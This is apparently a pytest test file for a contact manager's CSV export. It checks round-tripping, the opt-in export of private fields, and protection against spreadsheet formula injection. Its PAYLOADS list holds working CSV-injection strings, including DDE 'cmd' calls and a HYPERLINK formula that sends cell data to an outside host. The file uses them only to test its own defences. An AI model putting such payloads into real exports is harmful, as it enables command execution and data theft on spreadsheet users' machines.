"""Tables that NetDesk writes: equal when they come in again, and never a formula."""

import csv
import io
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from msgspec.structs import replace

from netdesk.formats.csvfile import read_csv, write_csv
from netdesk.records.contact import Contact, Labelled
from tests.core.formats.csv_tables import TODAY, read_one
from tests.core.formats.strategies import contacts, private_contacts

FORMULA = re.compile(r"\s*[=+\-@\t\r\n＝＋－＠]")
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    "  =1+1",
    "＝1+1",
    "'=1+1",
    "''=1+1",
    'harmless";=1+1',
    "harmless;=1+1",
    "harmless\n=1+1",
    "harmless\t@x",
    "+49 30 1",
]


def back(written):
    return [draft.contact for draft in read_csv(written, today=TODAY).drafts]


def cells(written, separator=","):
    return list(csv.reader(io.StringIO(written.decode("utf-8-sig")), delimiter=separator))


def without_photo(contact):
    return replace(contact, photo=b"")


@settings(max_examples=100)
@given(st.lists(contacts.map(without_photo), min_size=1, max_size=3))
def test_contacts_come_back_equal(several):
    assert back(write_csv(several)) == several


@settings(max_examples=100)
@given(st.lists(private_contacts().map(without_photo), min_size=1, max_size=3))
def test_whole_contacts_come_back_when_private_fields_are_written(several):
    several = [
        replace(
            contact,
            common_ground=tuple(dict.fromkeys(contact.common_ground)),
            background=tuple(dict.fromkeys(contact.background)),
        )
        for contact in several
    ]
    assert back(write_csv(several, private=True)) == several


@settings(max_examples=200)
@given(st.text(st.sampled_from("=+-@;,\t\n\r'\" a＝ü"), max_size=20))
def test_any_note_comes_back_and_no_cell_is_a_formula(text):
    contact = Contact(full_name="Ana", note=text.replace("\r", "").strip())
    written = write_csv([replace(contact, note=text)])
    assert back(written) == [
        replace(contact, note=text.replace("\r\n", "\n").replace("\r", "\n").strip())
    ]
    assert not any(FORMULA.match(cell) for row in cells(written) for cell in row)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_spreadsheet_program_runs_no_cell(payload):
    contact = Contact(full_name=payload, emails=(Labelled(payload, payload),), note=payload)
    for separator in ",;\t":
        for row in cells(write_csv([contact]), separator):
            assert not any(FORMULA.match(cell) for cell in row), row


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_was_made_harmless_comes_back_as_it_was(payload):
    contact = Contact(full_name=payload.strip(), note=payload.strip())
    assert back(write_csv([contact])) == [contact]


def test_the_guard_is_taken_off_whoever_put_it_there():
    header = "First Name,Last Name,E-mail Address,Mobile Phone"
    assert read_one(header, "Ana,Ruiz,,'+49 170 1").phones[0].value == "+49 170 1"


def test_the_file_is_what_spreadsheet_programs_expect():
    written = write_csv([Contact(full_name="Zoë")])
    assert written.startswith(b"\xef\xbb\xbfName,")
    assert written.count(b"\r\n") == 2


def test_private_fields_go_out_only_when_asked_for():
    contact = Contact(full_name="Ana", common_ground=("chess",), ally_stage="ally")
    assert b"chess" not in write_csv([contact])
    assert b"ally" not in write_csv([contact])
    assert b"chess" in write_csv([contact], private=True)


def test_nobody_makes_a_header_alone():
    assert len(cells(write_csv([]))) == 1


def test_half_a_character_does_not_stop_an_export():
    assert back(write_csv([Contact(full_name="Ana \ud800")]))[0].full_name == "Ana ?"
